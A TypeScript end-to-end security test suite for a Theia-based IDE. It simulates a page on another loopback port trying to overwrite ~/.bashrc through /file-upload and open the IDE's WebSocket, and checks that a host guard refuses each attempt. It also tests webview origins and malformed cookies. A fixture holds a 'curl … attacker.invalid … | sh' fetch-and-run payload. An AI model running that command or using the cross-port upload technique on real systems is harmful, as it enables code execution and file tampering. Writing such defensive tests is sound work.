/**
 * Issue 8, item 2 ("any page on another loopback port can write any file as the IDE user") and the
 * malformed-cookie part of item 8, as the attack, against the BUILT browser-app on a scratch HOME.
 *
 * The attacker controls a web server on another loopback port and a page on it, opened in the same
 * browser (the same context) that has the IDE open, so every cookie the IDE set is in the jar and
 * goes out with the attacker's requests: Theia's `SameSite=Strict` connection token is "same-site"
 * across ports. From that page it posts to `/file-upload` to overwrite `~/.bashrc`, and opens
 * Theia's WebSocket. Both must be refused by the Sandy host guard (and said so in the backend log),
 * while the IDE's own page keeps loading, connecting and uploading.
 */
import { expect } from 'chai';
import * as fs from 'fs';
import * as path from 'path';
import { pathToFileURL } from 'url';
import { Browser, BrowserContext, chromium, Page } from 'playwright-core';
import { E2eSuite, useSandyIde } from '../e2e/suite';
import { REPO_ROOT, SandyIde } from '../e2e/harness';
import { CHROMIUM } from '../e2e/browser';
import { SandyApp } from '../e2e/page-objects/sandy-app';
import { poll } from '../support/poll';
import { AttackerSite, rawRequest } from './origin-attacker';
import { WebviewProbeReport, writeWebviewProbe } from './origin-webview-probe';

const ORIGINAL_BASHRC = '# the user\'s own shell startup\nexport EDITOR=vi\n';
const PAYLOAD = 'curl -s http://attacker.invalid/x | sh # written by a page on another port\n';

interface SocketOutcome {
    kind: 'open' | 'error' | 'closed' | 'timeout';
    firstMessage?: string;
    code?: number;
}

type AttackWindow = Window & {
    attack: {
        upload(ideOrigin: string, fileUri: string, content: string): Promise<string>;
        formUpload(ideOrigin: string, fileUri: string, content: string): Promise<string>;
        socket(wsUrl: string): Promise<SocketOutcome>;
    };
};

function socketUrl(origin: string): string {
    return `${origin.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`;
}

/**
 * The backend log, read through a descriptor opened as soon as the backend is up: another test run
 * starting on this machine empties test/results, and the backend keeps writing to the unlinked file.
 */
class BackendLog {
    protected readonly fd: number;

    constructor(readonly ide: SandyIde) {
        this.fd = fs.openSync(ide.logFile, 'r');
    }

    text(): string {
        const size = fs.fstatSync(this.fd).size;
        const buffer = Buffer.alloc(size);
        fs.readSync(this.fd, buffer, 0, size, 0);
        return buffer.toString('utf8');
    }

    /** Waits until the log holds `text` (the logger writes asynchronously). */
    async waitFor(text: string): Promise<void> {
        await poll(() => this.text().includes(text), { message: `the backend log to record "${text}"`, timeout: 5_000 });
    }

    close(): void {
        fs.closeSync(this.fd);
    }
}

/**
 * The IDE at `origin` in a fresh window; its page has set the cookies a user's browser would hold.
 * `beforeLoad` sees the page before it navigates to `origin` (to watch its requests).
 */
async function openIdeAt(suite: E2eSuite, origin: string, beforeLoad?: (page: Page) => void): Promise<SandyApp> {
    const app = await suite.browser.openApp(suite.ide);
    if (origin !== suite.ide.origin) {
        beforeLoad?.(app.page);
        await app.page.goto(`${origin}/`);
        await app.waitForShell();
    }
    // Precondition of the attack: the browser holds the IDE's cookie for the host the attacker will target.
    const cookies = await app.page.context().cookies(`${origin}/`);
    expect(cookies.map(c => c.name), `cookies for ${origin}`).to.include('theia-connection-token');
    return app;
}

describe('Security: a page on another loopback port (issue 8, item 2)', () => {
    const suite = useSandyIde({
        label: 'origin',
        seed: ide => fs.writeFileSync(path.join(ide.home, '.bashrc'), ORIGINAL_BASHRC)
    });
    let attacker: AttackerSite;
    let bashrc: string;
    let log: BackendLog;

    before(async () => {
        log = new BackendLog(suite.ide);
        attacker = await AttackerSite.start();
        bashrc = path.join(suite.ide.home, '.bashrc');
    });

    after(async () => {
        log?.close();
        await attacker?.stop();
    });

    /** The attacker's page, in the browser context that has the IDE open. */
    async function openAttackerPage(context: BrowserContext, hostname: string): Promise<Page> {
        const page = await context.newPage();
        await page.goto(attacker.url(hostname));
        await page.waitForFunction(() => document.title === 'attacker ready');
        return page;
    }

    const openIde = (origin: string): Promise<SandyApp> => openIdeAt(suite, origin);

    async function uploadFrom(evil: Page, ideOrigin: string): Promise<void> {
        const uri = pathToFileURL(bashrc).toString();
        // The page cannot read its opaque answer, but the test sees it on the wire: the guard's 403.
        const answered = evil.waitForResponse(r => r.url() === `${ideOrigin}/file-upload`);
        const fetched = await evil.evaluate(([o, u, c]) => (window as unknown as AttackWindow).attack.upload(o, u, c), [ideOrigin, uri, PAYLOAD]);
        expect(fetched, 'the no-cors POST left the attacker page').to.equal('sent');
        // The opaque response arrives after the backend handled the request: any write has happened by now.
        expect(fs.readFileSync(bashrc, 'utf8'), '~/.bashrc after a no-cors multipart POST from another port').to.equal(ORIGINAL_BASHRC);
        expect((await answered).status(), 'the answer to the no-cors POST').to.equal(403);
        expect(await evil.evaluate(([o, u, c]) => (window as unknown as AttackWindow).attack.formUpload(o, u, c), [ideOrigin, uri, PAYLOAD]))
            .to.equal('submitted');
        expect(fs.readFileSync(bashrc, 'utf8'), '~/.bashrc after a multipart form POST from another port').to.equal(ORIGINAL_BASHRC);
    }

    async function socketFrom(evil: Page, ideOrigin: string): Promise<SocketOutcome> {
        const outcome = await evil.evaluate(url => (window as unknown as AttackWindow).attack.socket(url), socketUrl(ideOrigin));
        expect(outcome.kind, `WebSocket from the attacker page: ${JSON.stringify(outcome)}`).to.not.equal('open');
        return outcome;
    }

    it('cannot overwrite ~/.bashrc through /file-upload from http://127.0.0.1:<other port>', async () => {
        const { ide } = suite;
        const app = await openIde(ide.origin);
        const evil = await openAttackerPage(app.page.context(), '127.0.0.1');
        await uploadFrom(evil, ide.origin);
        await log.waitFor(`refused HTTP POST /file-upload: Origin http://127.0.0.1:${attacker.port} is not this IDE`);
    });

    it('cannot open the IDE\'s WebSocket from http://127.0.0.1:<other port>', async () => {
        const { ide } = suite;
        const app = await openIde(ide.origin);
        const evil = await openAttackerPage(app.page.context(), '127.0.0.1');
        await socketFrom(evil, ide.origin);
        await log.waitFor(`refused WebSocket upgrade: Origin http://127.0.0.1:${attacker.port} is not this IDE`);
    });

    it('cannot do either from http://localhost:<other port> against the IDE opened as http://localhost:<port>', async () => {
        const { ide } = suite;
        const ideOrigin = `http://localhost:${ide.port}`;
        const app = await openIde(ideOrigin);
        const evil = await openAttackerPage(app.page.context(), 'localhost');
        await uploadFrom(evil, ideOrigin);
        await log.waitFor(`refused HTTP POST /file-upload: Origin http://localhost:${attacker.port} is not this IDE`);
        await socketFrom(evil, ideOrigin);
        await log.waitFor(`refused WebSocket upgrade: Origin http://localhost:${attacker.port} is not this IDE`);
    });

    it('answers a refused request with a short plain-text 403 that says what to do', async () => {
        const { ide } = suite;
        const answer = await rawRequest(ide.port, 'POST', '/file-upload', {
            Host: `127.0.0.1:${ide.port}`, Origin: `http://127.0.0.1:${attacker.port}`, 'Content-Type': 'text/plain'
        }, 'x');
        expect(answer.status).to.equal(403);
        expect(answer.headers['content-type']).to.match(/^text\/plain/);
        expect(answer.body.trim().split('\n'), answer.body).to.have.length(1);
        expect(answer.body).to.contain(`Origin http://127.0.0.1:${attacker.port} is not this IDE`);
        expect(answer.body).to.contain(`open the IDE at ${ide.origin}/`);
    });

    it('still loads, connects and uploads from its own page (127.0.0.1 and localhost)', async () => {
        const { ide } = suite;
        for (const origin of [ide.origin, `http://localhost:${ide.port}`]) {
            // The shell coming up at all means Theia's socket.io connection from the page was accepted.
            const app = await openIde(origin);
            const own = await app.page.evaluate(url => new Promise<SocketOutcome>(resolve => {
                const ws = new WebSocket(url);
                ws.onmessage = e => { ws.close(); resolve({ kind: 'open', firstMessage: String(e.data) }); };
                ws.onerror = () => resolve({ kind: 'error' });
            }), socketUrl(origin));
            expect(own.kind, `the IDE page's own WebSocket at ${origin}`).to.equal('open');
            expect(own.firstMessage).to.match(/^0\{.*"sid"/);

            // Theia's upload, as its FileUploadService sends it: a same-origin multipart POST.
            const target = path.join(ide.workspace, `uploaded-from-${new URL(origin).hostname}.txt`);
            const status = await app.page.evaluate(async ([u, body]) => {
                const form = new FormData();
                form.append('uri', u);
                form.append('file', new Blob([body]), 'uploaded.txt');
                return (await fetch('/file-upload', { method: 'POST', body: form })).status;
            }, [pathToFileURL(target).toString(), 'legit upload\n']);
            expect(status, `upload from the IDE's own page at ${origin}`).to.equal(200);
            expect(fs.readFileSync(target, 'utf8')).to.equal('legit upload\n');
        }
        expect(fs.readFileSync(path.join(ide.home, '.bashrc'), 'utf8')).to.equal(ORIGINAL_BASHRC);
    });
});

describe('Security: plugin webviews get their shell and nothing more (issue 8, item 2)', () => {
    // Theia serves each webview on its own origin, <uuid>.webview.<host>; Chromium resolves such a
    // name only under `localhost` (not under an IP address), so the IDE is opened as localhost here.
    const env: Record<string, string> = {};
    const suite = useSandyIde({
        label: 'origin-webview',
        env,
        seed: ide => {
            fs.writeFileSync(path.join(ide.home, '.bashrc'), ORIGINAL_BASHRC);
            const plugins = path.join(ide.root, 'probe-plugins');
            writeWebviewProbe(plugins, pathToFileURL(path.join(ide.home, '.bashrc')).toString(), path.join(ide.root, 'webview-report.json'));
            env.THEIA_PLUGINS = `local-dir:${plugins}`;
        }
    });
    let log: BackendLog;
    let browser: Browser | undefined;

    before(async () => {
        log = new BackendLog(suite.ide);
        // Chromium's third-party cookie phase-out (on by default in Debian's chromium 156) also denies a
        // cross-site iframe its service worker, which Theia's webview shell needs: run this window as a
        // browser with third-party cookies allowed (as Chrome's default still is).
        browser = await chromium.launch({
            executablePath: CHROMIUM,
            args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-features=TrackingProtection3pcd']
        });
    });

    after(async () => {
        log?.close();
        await browser?.close();
    });

    it('loads a plugin webview, whose origin cannot upload, download or open a socket', async () => {
        const { ide } = suite;
        const reportFile = path.join(ide.root, 'webview-report.json');
        const webviewRequests: { url: string; status: number; headers: Record<string, string> }[] = [];
        const context = await browser!.newContext({ viewport: { width: 1280, height: 800 } });
        context.on('requestfinished', async request => {
            if (/\.webview\.localhost:/.test(request.url())) {
                webviewRequests.push({ url: request.url(), status: (await request.response())?.status() ?? 0, headers: await request.allHeaders() });
            }
        });
        const app = await SandyApp.load(await context.newPage(), `http://localhost:${ide.port}/`, () => ide.deathNotice());
        const report = await app.poll(() => fs.existsSync(reportFile) && JSON.parse(fs.readFileSync(reportFile, 'utf8')) as WebviewProbeReport,
            'the webview probe to report', { timeout: 60_000 }).catch(e => {
            throw new Error(`${e.message}; webview requests: ${JSON.stringify(webviewRequests.map(r => `${r.status} ${r.url}`))}`);
        });
        // The legitimate path: Theia's webview shell came up on the webview's own origin and ran the page.
        expect(report.origin).to.match(new RegExp(`^http://[0-9a-f-]+\\.webview\\.localhost:${ide.port}$`));
        const shell = webviewRequests.filter(r => new URL(r.url).pathname.startsWith('/webview/'));
        expect(shell.length, JSON.stringify(webviewRequests.map(r => r.url))).to.be.greaterThan(0);
        expect(shell.filter(r => r.status >= 400).map(r => `${r.status} ${r.url}`), 'webview shell requests that failed').to.deep.equal([]);
        // What hostile content in a webview would do on its own origin.
        expect(report.upload, 'POST /file-upload from the webview origin').to.equal(403);
        expect(report.download, 'GET /files/ from the webview origin').to.equal(403);
        expect(report.polling, 'socket.io long-polling from the webview origin').to.equal(403);
        expect(report.socket, 'WebSocket from the webview origin').to.not.match(/^open/);
        expect(fs.readFileSync(path.join(ide.home, '.bashrc'), 'utf8')).to.equal(ORIGINAL_BASHRC);
        await log.waitFor('refused HTTP POST /file-upload: POST /file-upload on a webview origin is not allowed');
    });
});

describe('Security: a malformed cookie, path or body never shows the backend\'s insides (issue 8, item 8)', () => {
    const TOKEN = 'e2e-token-0123456789abcdef0123456789abcdef';
    const suite = useSandyIde({ label: 'origin-token', env: { SANDY_IDE_TOKEN: TOKEN } });
    let context: BrowserContext | undefined;

    afterEach(async () => {
        await context?.close();
        context = undefined;
    });

    /** One line: no stack frame, no install path, nothing of the backend's insides. */
    function expectNoInsides(answer: { status: number; body: string }, what: string): void {
        expect(answer.body.trim().split('\n'), `${what}: one line: ${answer.body.slice(0, 500)}`).to.have.length(1);
        expect(answer.body, what).to.not.match(/\bat .*\(|node_modules|URIError|<pre>/);
        expect(answer.body, what).to.not.contain(REPO_ROOT);
    }

    /** A 4xx in one line. */
    function expectTerseRefusal(answer: { status: number; body: string }, what: string): void {
        expect(answer.status, `${what}: ${answer.body.slice(0, 500)}`).to.be.within(400, 499);
        expectNoInsides(answer, what);
    }

    it('answers a badly encoded sandy-ide-token cookie with a one-line 4xx, not a 500 with a stack', async () => {
        const { ide } = suite;
        const host = `127.0.0.1:${ide.port}`;
        for (const p of ['/', '/bundle.js', '/file-upload']) {
            expectTerseRefusal(await rawRequest(ide.port, 'GET', p, { Host: host, Cookie: 'sandy-ide-token=%E0%A4%A' }), `GET ${p}`);
        }
        const malformed = await rawRequest(ide.port, 'GET', '/', { Host: host, Cookie: 'sandy-ide-token=%E0%A4%A' });
        expect(malformed.body).to.match(/sandy-ide-token cookie/);
        expect(malformed.body).to.contain('?token=');
    });

    it('is not broken by another local app\'s badly encoded cookie, and the token still works', async () => {
        const { ide } = suite;
        const host = `127.0.0.1:${ide.port}`;
        // Cookies ignore ports: anything else on 127.0.0.1 can leave a cookie that the browser sends to the IDE.
        const foreign = 'other-app=%E0%A4%A';
        expect((await rawRequest(ide.port, 'GET', '/', { Host: host, Cookie: foreign })).status, 'no token').to.equal(403);
        const first = await rawRequest(ide.port, 'GET', `/?token=${TOKEN}`, { Host: host, Cookie: foreign });
        expect(first.status, first.body.slice(0, 500)).to.equal(200);
        expect(String(first.headers['set-cookie'])).to.contain(`sandy-ide-token=${TOKEN}`);
        expect((await rawRequest(ide.port, 'GET', '/', { Host: host, Cookie: `${foreign}; sandy-ide-token=${TOKEN}` })).status).to.equal(200);
        // A malformed token cookie is repaired by opening the IDE once with ?token=.
        const repaired = await rawRequest(ide.port, 'GET', `/?token=${TOKEN}`, { Host: host, Cookie: 'sandy-ide-token=%E0%A4%A' });
        expect(repaired.status).to.equal(200);
        expect(String(repaired.headers['set-cookie'])).to.contain(`sandy-ide-token=${TOKEN}`);

        // And the real app in Chromium, with that foreign cookie in the jar.
        context = await suite.browser.browser.newContext();
        await context.addCookies([{ name: 'other-app', value: '%E0%A4%A', url: `${ide.origin}/` }]);
        const page = await context.newPage();
        await SandyApp.load(page, `${ide.url}?token=${TOKEN}`, () => ide.deathNotice());
    });

    it('answers a malformed path or body from the IDE\'s own page with one line, not a stack', async () => {
        const { ide } = suite;
        const host = `127.0.0.1:${ide.port}`;
        const first = await rawRequest(ide.port, 'GET', `/?token=${TOKEN}`, { Host: host });
        const cookie = (first.headers['set-cookie'] ?? []).map(c => c.split(';')[0]).join('; ');
        expect(cookie).to.contain('theia-connection-token=').and.contain('sandy-ide-token=');
        const own = { Host: host, Origin: ide.origin, Cookie: cookie };
        expectTerseRefusal(await rawRequest(ide.port, 'GET', '/hostedPlugin/x/%E0%A4%A', own), 'a path that does not decode');
        expectTerseRefusal(await rawRequest(ide.port, 'PUT', '/files', { ...own, 'Content-Type': 'application/json' }, '{not json'), 'a JSON body that does not parse');
        const upload = await rawRequest(ide.port, 'POST', '/file-upload', { ...own, 'Content-Type': 'multipart/form-data; boundary=x' }, 'not multipart');
        expect(upload.status, upload.body.slice(0, 500)).to.be.within(400, 599);
        expectNoInsides(upload, 'a multipart body that does not parse');
    });
});
